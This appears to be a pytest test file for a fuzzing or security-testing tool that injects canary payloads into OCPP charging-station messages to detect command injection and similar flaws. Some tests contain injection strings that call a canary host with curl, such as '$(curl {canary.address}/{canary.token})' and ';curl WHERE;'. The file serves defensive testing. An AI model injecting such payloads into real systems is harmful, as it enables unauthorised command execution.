import pytest

from strategies.canaries import (
    LAWFUL,
    WEAKNESSES,
    Canary,
    Injection,
    Tongue,
    injections,
    is_address,
    value_injections,
    width,
)
from strategies.labels import Kind, Sender
from strategies.pool import Pool, PoolVariable
from strategies.schema import message_schema
from strategies.version import version

V = version()
ACTIONS = sorted({*V.sent_by(Sender.CSMS), *V.sent_by(Sender.STATION)})

LONGEST_SLOTS = {
    "{canary.hit}": "http://255.255.255.255:65535/hit/abcdef",
    "{canary.url}": "http://255.255.255.255:65535/ok/abcdef",
    "{canary.address}": "255.255.255.255:65535",
    "{canary.host}": "255.255.255.255",
    "{canary.port}": "65535",
    "{canary.token}": "abcdef",
}


def made(action: str) -> list[Injection]:
    return [i for _, i in injections(message_schema(action, Kind.REQUEST, V))]


def filled(value):
    """The payload as it is said where every slot takes as much room as it may."""
    match value:
        case dict():
            return {name: filled(inner) for name, inner in value.items()}
        case list():
            return [filled(inner) for inner in value]
        case str():
            for slot, text in LONGEST_SLOTS.items():
                value = value.replace(slot, text)
            return value
        case _:
            return value


@pytest.mark.parametrize("action", ACTIONS)
def test_every_payload_fits_its_schema_and_differs_from_its_control(action):
    validator = V.validator(action, Kind.REQUEST)
    for injection in made(action):
        assert validator.is_valid(filled(injection.payload)), injection.mutation.after
        assert validator.is_valid(injection.control)
        assert injection.payload != injection.control


@pytest.mark.parametrize("action", ACTIONS)
def test_no_two_injections_of_an_action_have_one_name(action):
    names = [(i.place, i.canary.name) for i in made(action)]
    assert len(names) == len(set(names))


def test_every_tongue_that_can_be_proven_names_an_address_of_ours():
    sung = [i for action in ACTIONS for i in made(action) if i.canary.tongue in WEAKNESSES]
    assert {i.canary.tongue for i in sung} == set(WEAKNESSES)
    assert all(
        ("{canary.hit}" in i.mutation.after) or ("{canary.token}" in i.mutation.after) for i in sung
    )


def test_what_cannot_be_proven_names_nobody():
    silent = [i for i in made("DataTransfer") if i.canary.tongue not in WEAKNESSES]
    assert {Tongue.TERMINAL, Tongue.FORMAT, Tongue.NUL, Tongue.SQL} <= {
        i.canary.tongue for i in silent
    }
    assert not any(
        "{canary.hit}" in i.mutation.after or "{canary.token}" in i.mutation.after for i in silent
    )


def test_where_an_address_is_asked_for_it_is_a_lawful_one_with_something_behind_it():
    places = {"log.remoteLocation"}
    found = made("GetLog")
    assert {i.place for i in found} == places
    assert all(i.mutation.after.startswith(LAWFUL) for i in found)
    assert Tongue.ADDRESS not in {i.canary.tongue for i in found}


def test_only_what_is_read_is_read_from_a_file_of_the_target():
    assert "file" in {i.canary.name for i in made("UpdateFirmware")}
    assert "file" not in {i.canary.name for i in made("GetLog")}


def test_a_short_place_is_told_the_short_address():
    (token,) = [
        i
        for i in made("RequestStartTransaction")
        if i.place == "idToken.idToken" and i.canary.name == "substitution"
    ]
    assert token.mutation.after == "$(curl {canary.address}/{canary.token})"


def test_the_first_rank_has_a_canary_for_every_action_with_room_for_one():
    first = {
        a for a in ACTIONS for r, _ in injections(message_schema(a, Kind.REQUEST, V)) if r == 0
    }
    assert {"DataTransfer", "GetLog", "UpdateFirmware", "CustomerInformation"} <= first
    assert "Reset" not in first


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("remoteLocation", True),
        ("NtpServerUri", True),
        ("ocppCsmsUrl", True),
        ("OrganizationName", False),
    ],
)
def test_addresses_are_known_by_their_names(name, expected):
    assert is_address(name) is expected


def test_only_text_that_may_be_written_is_set():
    pool = Pool(
        (
            PoolVariable("A", "Text", data_type="string", value="was", max_limit=60),
            PoolVariable("A", "Fixed", data_type="string", mutability="ReadOnly"),
            PoolVariable("A", "Number", data_type="integer", value="1"),
            PoolVariable("A", "Choice", data_type="string", values=("x",)),
        )
    )
    found = [i for _, i in value_injections(pool)]
    assert {i.place for i in found} == {"A.Text"}
    (item,) = found[0].control["setVariableData"]
    assert item["attributeValue"] == "was"
    assert all(width(i.mutation.after) <= 60 for i in found)


def test_an_address_is_written_where_the_canary_says():
    assert Canary("x", Tongue.SHELL, ";curl WHERE;").calls("h:1/t") == ";curl h:1/t;"
